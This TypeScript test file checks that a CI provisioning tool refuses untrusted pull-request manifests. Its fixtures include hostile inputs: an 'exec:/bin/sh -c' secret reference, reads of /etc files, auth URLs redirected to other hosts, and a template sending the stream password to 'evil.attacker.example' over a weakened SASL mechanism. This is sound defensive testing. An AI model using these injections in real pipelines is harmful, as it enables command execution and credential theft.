/**
 * A manifest from a pull request, run by a CI job that holds the platform's secrets:
 * it may not run a command, read a file outside its folder, or send a credential or a
 * token anywhere the run's own settings do not name — unless the person running allows
 * it with a flag.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { TRACK_GROUP } from '../../src/sandbox/sandbox.js';
import { startRecordingServer } from '../helpers/recording-server.js';
import { ROOT, spawnDpgw } from '../helpers/run-dpgw.js';
import { adminPipelineEnv } from '../helpers/sandbox-http.js';
import { sandboxPerTest } from '../helpers/sandbox-per-test.js';
import { trackSchemaBeside } from '../helpers/track.js';

const sandboxes = sandboxPerTest({ topicDelayMs: 20 });

async function setUp() {
  const sandbox = await sandboxes.start();
  const env = await adminPipelineEnv(sandbox);
  const folder = env.DPGW_CONFIG_DIR!;
  trackSchemaBeside(folder);
  const manifest = (settings: string, schema = 'track-schema.yaml') => {
    const file = join(folder, 'provision.yaml');
    writeFileSync(file, `settings:\n${settings}dataSets:\n  - { datasource: mock-data-library, dataset: track, groups: [${TRACK_GROUP}], schema: ${schema}, table: { name: track } }\n`);
    return file;
  };
  const dpgw = (args: string[], extra: NodeJS.ProcessEnv = {}) => spawnDpgw(args, { env: { ...env, ...extra } });
  return { sandbox, env, folder, manifest, dpgw, gatewayLog: () => sandbox.requestLog.of('gateway') };
}

describe('a manifest from a pull request stays inside its run', () => {
  it('runs no exec: reference, not even under --plan with a schema to infer', async () => {
    const { dpgw, folder, manifest, gatewayLog } = await setUp();
    const marker = join(folder, 'pwned');
    const file = manifest(`  streamPassword: "exec:/bin/sh -c 'touch ${marker}; echo pw'"\n`, '{ infer: { sample: 5 } }');
    for (const args of [['--plan'], []]) {
      const result = await dpgw(['provision', file, ...args]);
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr).toMatch(/provision\.yaml:2:19: settings\.streamPassword: a manifest may not name where the streamPassword comes from .*--allow-manifest-secrets/);
      expect(existsSync(marker)).toBe(false);
    }
    expect(gatewayLog()).toEqual([]);
  });

  it('runs no clientSecret exec: when no session is cached, and sends no password anywhere', async () => {
    const { dpgw, folder, manifest, sandbox } = await setUp();
    const marker = join(folder, 'pwned');
    const file = manifest(`  clientSecret: "exec:/bin/sh -c 'touch ${marker}; echo s'"\n`);
    const signInsBefore = sandbox.requestLog.of('identity').length;
    const result = await dpgw(['provision', file], { DPGW_TOKEN: '', DPGW_USERNAME: 'admin', DPGW_PASSWORD: sandbox.users.find((u) => u.username === 'admin')!.password, DPGW_AUTH_URL: sandbox.authUrl, DPGW_REALM: sandbox.realm, DPGW_CLIENT_ID: sandbox.clientId });
    expect(result.code, result.stderr).toBe(2);
    expect(result.stderr).toContain('settings.clientSecret: a manifest may not name where the clientSecret comes from');
    expect(existsSync(marker)).toBe(false);
    expect(sandbox.requestLog.of('identity')).toHaveLength(signInsBefore);
  });

  it('sends the password, the client secret and the token only where the run says: every endpoint of the manifest is refused, all at once', async () => {
    const { dpgw, manifest, sandbox } = await setUp();
    const elsewhere = await startRecordingServer();
    try {
      const file = manifest(
        [`  gateway: ${elsewhere.url}`, `  authUrl: ${elsewhere.url}`, `  queryEngine: ${elsewhere.url}`, `  dashboardUrl: ${elsewhere.url}`, '  caFile: ca.pem', `  brokerList: 127.0.0.1:1`, ''].join('\n'),
      );
      for (const args of [['--plan'], [], ['--allow-outside-files']]) {
        const result = await dpgw(['provision', file, ...args], { DPGW_USERNAME: 'admin', DPGW_PASSWORD: sandbox.users.find((u) => u.username === 'admin')!.password });
        expect(result.code, result.stderr).toBe(2);
        const lines = result.stderr.trimEnd().split('\n');
        for (const key of ['gateway', 'authUrl', 'queryEngine', 'dashboardUrl', 'caFile', 'brokerList']) {
          expect(lines.some((line) => line.includes(`settings.${key}: a manifest may not choose`) && line.includes('--allow-manifest-endpoints'))).toBe(true);
        }
      }
      expect(elsewhere.requests).toEqual([]);
      expect(sandbox.requestLog.of('gateway')).toEqual([]);
    } finally {
      await elsewhere.close();
    }
  });

  describe('sends the run\'s password and client secret for no identity the run did not name', () => {
    /** The usual CI setup: who signs in from a profile, the password from the environment, no token. */
    async function ciSetUp() {
      const context = await setUp();
      const { sandbox, folder } = context;
      writeFileSync(
        join(folder, 'config.yaml'),
        `currentProfile: ci\nprofiles:\n  ci:\n    gateway: ${sandbox.gatewayUrl}\n    authUrl: ${sandbox.authUrl}\n    realm: ${sandbox.realm}\n    clientId: ${sandbox.clientId}\n    username: admin\n`,
      );
      const ciEnv = { DPGW_TOKEN: '', DPGW_GATEWAY: '', DPGW_CLIENT_SECRET: sandbox.clientSecret, DPGW_PASSWORD: sandbox.users.find((u) => u.username === 'admin')!.password };
      return { ...context, ciEnv };
    }

    it.each([
      ['realm', 'other', 'identity realm'],
      ['clientId', 'someone-elses-client', 'id of the backend client'],
      ['username', 'victim', 'user to sign in as'],
      ['authUrl', 'http://127.0.0.1:9/', 'base URL of the identity provider'],
      ['dashboardUser', 'someone', 'user to sign in to the dashboard tool as'],
    ])('settings.%s of its own is refused at its file:line:col, under --plan too, and nothing is sent', async (key, value, description) => {
      const { dpgw, manifest, sandbox, ciEnv } = await ciSetUp();
      const file = manifest(`  ${key}: ${value}\n`);
      const signInsBefore = sandbox.requestLog.of('identity').length;
      for (const args of [['--plan'], []]) {
        const result = await dpgw(['provision', file, ...args], ciEnv);
        expect(result.code, result.stderr).toBe(2);
        expect(result.stderr).toContain(`provision.yaml:2:${key.length + 5}: settings.${key}: a manifest may not choose the ${description}`);
        expect(result.stderr).toContain('--allow-manifest-endpoints');
      }
      expect(sandbox.requestLog.of('identity')).toHaveLength(signInsBefore);
      expect(sandbox.requestLog.of('gateway')).toEqual([]);
    });

    it('a manifest that repeats the run\'s own realm, client and user chooses nothing: it runs', async () => {
      const { dpgw, manifest, sandbox, ciEnv } = await ciSetUp();
      const file = manifest(`  realm: ${sandbox.realm}\n  clientId: ${sandbox.clientId}\n  username: admin\n  authUrl: ${sandbox.authUrl}/\n`);
      const result = await dpgw(['provision', file, '--plan'], ciEnv);
      expect(result.stderr).not.toContain('may not choose');
      expect(result.code, result.stderr).toBe(0);
    });

    it('with --allow-manifest-endpoints the manifest\'s realm is used (and the sign-in goes there)', async () => {
      const { dpgw, manifest, sandbox, ciEnv } = await ciSetUp();
      const file = manifest('  realm: other\n');
      const result = await dpgw(['provision', file, '--plan', '--allow-manifest-endpoints'], ciEnv);
      expect(result.stderr).not.toContain('may not choose');
      expect(result.code).not.toBe(0);
      expect(sandbox.requestLog.of('identity').some((entry) => entry.path.includes('/realms/other/'))).toBe(true);
    });
  });

  it('a key named __proto__ or constructor is an unknown key like any other: refused at its file:line:column, not a crash', async () => {
    const { dpgw, manifest, gatewayLog } = await setUp();
    for (const [settings, keys] of [
      ['  __proto__: { x: 1 }\n', ['__proto__']],
      ['  constructor: { x: 1 }\n  toString: 2\n', ['constructor', 'toString']],
    ] as const) {
      const result = await dpgw(['provision', manifest(settings), '--plan']);
      expect(result.stderr).not.toContain('unexpected error');
      expect(result.code, result.stderr).toBe(2);
      keys.forEach((key, line) => expect(result.stderr).toContain(`provision.yaml:${line + 2}:3: settings.${key}: unknown key "${key}"`));
    }
    expect(gatewayLog()).toEqual([]);
  });

  it('reads no file outside its folder through a file: reference, even with --allow-manifest-secrets', async () => {
    const { dpgw, manifest, gatewayLog } = await setUp();
    const file = manifest('  streamPassword: file:/etc/hostname\n');
    const refused = await dpgw(['provision', file, '--allow-manifest-secrets']);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/settings\.streamPassword: the streamPassword file \/etc\/hostname is outside the manifest's folder .*--allow-outside-files/);
    expect(gatewayLog()).toEqual([]);
  });

  it('with --allow-manifest-secrets and --allow-manifest-endpoints the person running trusts it: the reference runs and the gateway is the manifest\'s', async () => {
    const { dpgw, folder, manifest, sandbox, gatewayLog } = await setUp();
    const marker = join(folder, 'ran');
    const file = manifest(`  gateway: ${sandbox.gatewayUrl}\n  streamPassword: "exec:/bin/sh -c 'touch ${marker}; echo ${sandbox.stream.password}'"\n`);
    const result = await dpgw(['provision', file, '--allow-manifest-secrets', '--allow-manifest-endpoints', '--json'], { DPGW_GATEWAY: '', DPGW_STREAM_PASSWORD: '' });
    expect(result.code, result.stderr).toBe(0);
    expect(existsSync(marker)).toBe(true);
    expect(JSON.parse(result.stdout).dataSets[0].status).toBe('done');
    expect(result.stdout + result.stderr).not.toContain(sandbox.stream.password);
    expect(gatewayLog().some((e) => e.method === 'POST' && e.path.endsWith('/tables'))).toBe(true);
  });
});

describe("a manifest's own table template", () => {
  const templateBeside = (folder: string, edit: (text: string) => string) => {
    writeFileSync(join(folder, 'tpl.yaml'), edit(readFileSync(join(ROOT, 'templates/realtime-table.yaml'), 'utf8')));
  };
  const manifestWith = (folder: string) => {
    const file = join(folder, 'provision.yaml');
    writeFileSync(file, `dataSets:\n  - { datasource: mock-data-library, dataset: track, groups: [${TRACK_GROUP}], schema: track-schema.yaml, table: { name: track, template: tpl.yaml } }\n`);
    return file;
  };

  it('may not choose where the store connects with the stream password: other brokers, a weaker mechanism, a second map of stream configs', async () => {
    const { dpgw, folder, gatewayLog } = await setUp();
    templateBeside(folder, (text) =>
      text
        .replace('stream.${streamType}.broker.list: ${brokerList}', 'stream.${streamType}.broker.list: evil.attacker.example:9092')
        .replace('sasl.mechanism: SCRAM-SHA-512', 'sasl.mechanism: PLAIN')
        .replace('ingestionConfig:\n', 'ingestionConfig:\n  streamIngestionConfig:\n    streamConfigMaps:\n      - { bootstrap.servers: "evil.attacker.example:9093" }\n'),
    );
    const file = manifestWith(folder);
    for (const args of [['--plan'], []]) {
      const result = await dpgw(['provision', file, ...args]);
      expect(result.code, result.stderr).toBe(2);
      const lines = result.stderr.trimEnd().split('\n');
      expect(lines).toHaveLength(3);
      // Each at the data set's line, with the template's own file:line:column.
      expect(lines[0]).toMatch(/provision\.yaml:2:\d+: dataSets\[0\]\.dataset: data set track: the manifest's template sets stream\.mq\.broker\.list to "evil\.attacker\.example:9092", not the run's "127\.0\.0\.1:\d+": where and how the store connects with the stream password is the run's to choose \(pass --allow-manifest-endpoints to let the manifest choose it\) \(.*tpl\.yaml:24:\d+: tableIndexConfig\.streamConfigs\.stream\.mq\.broker\.list\)/);
      expect(lines[1]).toMatch(/sasl\.mechanism to "PLAIN", not the run's "SCRAM-SHA-512".* \(.*tpl\.yaml:30:\d+: tableIndexConfig\.streamConfigs\.sasl\.mechanism\)$/);
      expect(lines[2]).toMatch(/the manifest's template sets bootstrap\.servers outside tableIndexConfig\.streamConfigs.* \(.*tpl\.yaml:36:\d+: ingestionConfig\.streamIngestionConfig\.streamConfigMaps\[0\]\.bootstrap\.servers\)$/);
    }
    expect(gatewayLog()).toEqual([]);
    // The person running it may allow it, as for the manifest's endpoint settings.
    const allowed = await dpgw(['provision', file, '--plan', '--allow-manifest-endpoints']);
    expect(allowed.stderr).not.toContain("the manifest's template");
  });

  it("may not place the stream password's line anywhere but the stream config's sasl.jaas.config: a custom config would hold it for every reader of the table", async () => {
    const { dpgw, folder, gatewayLog } = await setUp();
    templateBeside(folder, (text) => text.replace('  customConfigs: {}', '  customConfigs:\n    copy: ${saslJaasConfig}'));
    const result = await dpgw(['provision', manifestWith(folder), '--plan']);
    expect(result.code, result.stderr).toBe(2);
    expect(result.stderr).toMatch(/the manifest's template places \$\{saslJaasConfig\}, the stream password's line, outside tableIndexConfig\.streamConfigs\.sasl\.jaas\.config: it goes there alone .* \(.*tpl\.yaml:\d+:\d+: metadata\.customConfigs\.copy\)/);
    expect(gatewayLog()).toEqual([]);
  });

  it('may tune what is not the connection (a flush threshold, the offset reset): planned as usual', async () => {
    const { dpgw, folder } = await setUp();
    templateBeside(folder, (text) => text.replace('consumer.prop.auto.offset.reset: smallest', 'consumer.prop.auto.offset.reset: largest\n    realtime.segment.flush.threshold.rows: "50000"'));
    const result = await dpgw(['provision', manifestWith(folder), '--plan']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain('realtime.segment.flush.threshold.rows');
  });
});
